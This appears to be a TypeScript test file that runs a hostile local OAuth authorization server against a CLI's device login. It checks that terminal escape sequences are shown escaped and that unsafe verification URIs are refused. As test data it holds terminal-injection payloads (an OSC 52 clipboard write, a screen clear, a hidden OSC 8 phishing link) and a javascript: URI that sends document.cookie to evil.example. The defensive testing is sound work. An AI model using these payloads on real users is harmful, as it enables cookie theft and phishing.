/**
 * A hostile authorization server whose strings reach the terminal: a device `verification_uri`
 * that writes the clipboard (OSC 52) and clears the screen, a `verification_uri_complete` that is
 * an OSC 8 link hiding its target, a user code with a cursor move, an `error_description` with
 * escapes, and a `javascript:` verification URI. The real CLI, the real daemon it starts, a tiny
 * node:http AS and MCP server on 127.0.0.1. Human output shows every control character escaped;
 * `--json` keeps exact values; a verification URI with control characters, or that is not https
 * (or loopback http), is never offered, by the daemon, the CLI or the agent server.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { startAgent } from '../helpers/agent.js';
import { isolatedEnv, runCli } from '../helpers/cli.js';

const CLEAR = '\x1b[2J\x1b[H';
const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
const OSC8 = '\x1b]8;;https://evil.example/phish\x1b\\https://idp.example/device\x1b]8;;\x1b\\';
const CSI = '\x9b2J';
const raw = /[\x1b\x07\x9b]/;

interface Case {
  verificationUri: string;
  verificationUriComplete?: string;
  userCode: string;
  /** What /token answers once `deny` is set (before: authorization_pending). */
  denial: Record<string, string>;
}

let server: Server;
let origin = '';
let deny = false;
const cases = new Map<string, Case>([
  [
    'escapes',
    {
      verificationUri: 'https://idp.example/device',
      userCode: `WDJB-MJHT\x1b[1A${CSI}`,
      denial: { error: 'invalid_request', error_description: `nope ${OSC52}${CLEAR} really` },
    },
  ],
  [
    'uri-escapes',
    {
      verificationUri: `https://idp.example/device${OSC52}${CLEAR}`,
      verificationUriComplete: `https://idp.example/device?c=1${OSC8}`,
      userCode: 'WDJB-MJHT',
      denial: { error: 'access_denied' },
    },
  ],
  [
    'javascript',
    {
      verificationUri: "javascript:fetch('//evil.example/'+document.cookie)//",
      userCode: 'ABCD-EFGH',
      denial: { error: 'access_denied' },
    },
  ],
]);

let env: ReturnType<typeof isolatedEnv>;
let agent: Client | undefined;

before(async () => {
  server = createServer((req, res) => {
    req.resume();
    const url = new URL(req.url ?? '/', 'http://x');
    const [, first, second] = url.pathname.split('/');
    const json = (status: number, body: unknown) =>
      res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    const name = first === '.well-known' ? url.pathname.split('/').pop() : second;
    const c = cases.get(name ?? '');
    if (!c) return json(404, { error: 'not_found' });
    const issuer = `${origin}/as/${name}`;
    if (url.pathname === `/mcp/${name}`) {
      res.setHeader('www-authenticate', `Bearer resource_metadata="${origin}/prm/${name}"`);
      return json(401, { error: 'unauthorized' });
    }
    if (
      url.pathname === `/prm/${name}` ||
      url.pathname === `/.well-known/oauth-protected-resource/mcp/${name}`
    )
      return json(200, { resource: `${origin}/mcp/${name}`, authorization_servers: [issuer] });
    if (url.pathname === `/.well-known/oauth-authorization-server/as/${name}`) {
      return json(200, {
        issuer,
        authorization_endpoint: `${issuer}/authorize`,
        token_endpoint: `${issuer}/token`,
        device_authorization_endpoint: `${issuer}/device`,
        registration_endpoint: `${issuer}/register`,
        response_types_supported: ['code'],
        code_challenge_methods_supported: ['S256'],
        grant_types_supported: ['authorization_code', 'urn:ietf:params:oauth:grant-type:device_code'],
      });
    }
    if (url.pathname === `/as/${name}/device`) {
      return json(200, {
        device_code: `device-code-${name}`,
        user_code: c.userCode,
        verification_uri: c.verificationUri,
        ...(c.verificationUriComplete ? { verification_uri_complete: c.verificationUriComplete } : {}),
        expires_in: 600,
        interval: 1,
      });
    }
    if (url.pathname === `/as/${name}/register`) {
      return json(201, { client_id: `registered-${name}`, token_endpoint_auth_method: 'none' });
    }
    if (url.pathname === `/as/${name}/token`) {
      return json(400, deny ? c.denial : { error: 'authorization_pending' });
    }
    return json(404, { error: 'not_found' });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  env = isolatedEnv();
});

after(async () => {
  await agent?.close().catch(() => undefined);
  await env?.cleanup();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

const login = (name: string, ...extra: string[]) =>
  runCli(['login', '--device', '--url', `${origin}/mcp/${name}`, '--client-id', 'public-client', ...extra], {
    env,
  });

test('device login: a verification URI carrying escapes is refused, and shown escaped', async () => {
  const run = await login('uri-escapes', '--no-wait');
  assert.notEqual(run.code, 0);
  for (const out of [run.stdout, run.stderr]) assert.ok(!raw.test(out), JSON.stringify(out));
  assert.doesNotMatch(run.stdout, /open this URL/);
  assert.match(
    run.stderr,
    /verification_uri "https:\/\/idp\.example\/device\\x1b\]52;c;ZWNobyBwd25lZA==\\x07\\x1b\[2J\\x1b\[H", which contains control characters/,
  );
  const status = await runCli(['auth', 'status', '--json'], { env });
  const pending = JSON.parse(status.stdout).pendingLogins as Array<{ serverUrl: string }>;
  assert.ok(!pending.some((l) => l.serverUrl.endsWith('/mcp/uri-escapes')), 'no login left polling');
});

test('device login: the IdP’s user code and error text print escaped; --json keeps them exact', async () => {
  const started = await login('escapes', '--no-wait');
  assert.equal(started.code, 0, started.stderr);
  for (const out of [started.stdout, started.stderr]) assert.ok(!raw.test(out), JSON.stringify(out));
  assert.match(started.stdout, /open this URL on any device:\n {2}https:\/\/idp\.example\/device\n/);
  assert.match(started.stdout, /enter the code: WDJB-MJHT\\x1b\[1A\\x9b2J/);

  const json = await login('escapes', '--no-wait', '--json');
  assert.equal(json.code, 0, json.stderr);
  const { login: info } = JSON.parse(json.stdout);
  assert.equal(info.verificationUri, cases.get('escapes')?.verificationUri, 'JSON keeps the exact value');
  assert.equal(info.userCode, cases.get('escapes')?.userCode);

  const status = await runCli(['auth', 'status'], { env });
  assert.equal(status.code, 0, status.stderr);
  assert.ok(!raw.test(status.stdout), JSON.stringify(status.stdout));
  assert.match(status.stdout, /WDJB-MJHT\\x1b\[1A\\x9b2J/);

  // The IdP then fails the login with an error_description full of escapes.
  deny = true;
  const waited = await runCli(['login', '--wait', info.id, '--timeout', '30'], { env });
  assert.notEqual(waited.code, 0);
  assert.ok(!raw.test(waited.stderr), JSON.stringify(waited.stderr));

  const logs = await runCli(['daemon', 'logs', '-n', '200'], { env });
  assert.equal(logs.code, 0, logs.stderr);
  assert.ok(!raw.test(logs.stdout), JSON.stringify(logs.stdout));
  assert.match(logs.stdout, /nope \\x1b\]52;c;ZWNobyBwd25lZA==\\x07\\x1b\[2J\\x1b\[H really/);
  const rawLogs = await runCli(['daemon', 'logs', '-n', '200', '--json'], { env });
  const messages = rawLogs.stdout
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.stringify(JSON.parse(line)));
  assert.ok(
    messages.some((m) => m.includes(JSON.stringify(`nope ${OSC52}${CLEAR} really`).slice(1, -1))),
    '--json prints the exact log lines',
  );
});

test('a javascript: verification URI is never offered; the pending login is cancelled', async () => {
  const run = await login('javascript');
  assert.notEqual(run.code, 0);
  assert.ok(!raw.test(run.stderr + run.stdout), JSON.stringify(run.stderr));
  assert.doesNotMatch(run.stderr + run.stdout, /open this URL/);
  assert.match(run.stderr, /error: .*which is not an https URL/);
  const noWait = await login('javascript', '--no-wait', '--json');
  assert.notEqual(noWait.code, 0);
  assert.doesNotMatch(noWait.stdout, /"verificationUri"/);

  const status = await runCli(['auth', 'status', '--json'], { env });
  const pending = JSON.parse(status.stdout).pendingLogins as Array<{ serverUrl: string }>;
  assert.ok(!pending.some((l) => l.serverUrl.endsWith('/mcp/javascript')), 'no login left polling');
});

test('the agent verb login_device_start does not relay a javascript: verification URI', async () => {
  agent = await startAgent(env, { cwd: env.MCPTEST_HOME as string, name: 'idp-strings-test' });
  const answer = (await agent.callTool(
    { name: 'login_device_start', arguments: { url: `${origin}/mcp/javascript` } },
    undefined,
    { timeout: 60_000 },
  )) as { isError?: boolean; structuredContent?: Record<string, any> };
  assert.equal(answer.isError, true, JSON.stringify(answer));
  assert.equal(answer.structuredContent?.verification_uri, undefined);
  assert.doesNotMatch(String(answer.structuredContent?.ask_human ?? ''), /javascript:/);
});
